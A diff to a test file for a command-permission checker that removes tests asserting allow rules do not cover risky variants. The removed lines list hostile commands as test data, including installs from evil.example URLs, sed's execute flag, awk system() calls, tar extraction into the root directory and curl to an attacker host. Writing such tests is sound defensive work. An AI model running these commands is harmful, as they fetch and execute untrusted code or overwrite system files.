@@ -1,7 +1,5 @@
 import { describe, expect, test } from 'vitest'
-import { stackOf } from '../../src/policy/evaluate.ts'
-import { readPolicy } from '../../src/policy/read-policy.ts'
-import { decisionOf, shimContext } from '../helpers/shims.ts'
+import { decisionOf } from '../helpers/shims.ts'
 
 /** What each family of holes looked like, and what people type all day that looks like it. */
 const FAMILIES: Readonly<Record<string, { readonly attacks: readonly string[]; readonly harmless: readonly string[] }>> = {
@@ -101,37 +99,3 @@ for (const [family, { attacks, harmless }] of Object.entries(FAMILIES))
     test.each(attacks)('is not approved: %s', line => expect(decisionOf(line)).not.toBe('allow'))
     test.each(harmless)('goes through: %s', line => expect(decisionOf(line)).toBe('allow'))
   })
-
-const ruled = (rule: string, line: string): string => {
-  const user = readPolicy({ commands: { allow: [rule] } }, { name: 'user', level: 'user' })
-  return decisionOf(line, shimContext, { policies: stackOf(user.ok ? { user: user.value } : {}) })
-}
-
-describe('a permission covers no danger that a word of the line adds', () => {
-  test.each([
-    ['npm install', 'npm install https://evil.example/x.tgz'],
-    ['npm install', 'npm install lodash@git+https://evil.example/x'],
-    ['npm install', 'npm i evil/repository'],
-    ['npm install', 'npm install /opt/x'],
-    ['pip install', 'pip install git+https://evil.example/x'],
-    ['pip install', 'pip install /opt/x'],
-    ['make', 'make -f /opt/x'],
-    ['make test', 'make -f evil.mk test'],
-    ['sed -i', "sed -i 's/a/b/e' Makefile"],
-    ['awk', "awk '{ system($1) }' x"],
-    ['tar -xf', 'tar -xf x.tar -C /'],
-    ['tar -xf', 'cd ~ && tar -xf x.tar'],
-    ['curl https://orchard.example/*', 'curl https://orchard.example/x https://evil.example/'],
-  ])('%s does not allow %s', (rule, line) => expect(ruled(rule, line)).toBe('ask'))
-
-  test.each([
-    ['npm install', 'npm install'],
-    ['npm install', 'npm i -D @types/node vitest@3'],
-    ['pip install', 'pip install requests==2.32'],
-    ['make', 'make test'],
-    ['tar -xf', 'tar -xf x.tar'],
-    ['tar -xf', 'tar -xf x.tar -C /tmp/x'],
-    ['sed -i', 'sed -i s/a/b/ Makefile'],
-    ['awk', "awk '{ print $1 }' x"],
-  ])('%s allows %s', (rule, line) => expect(ruled(rule, line)).toBe('allow'))
-})
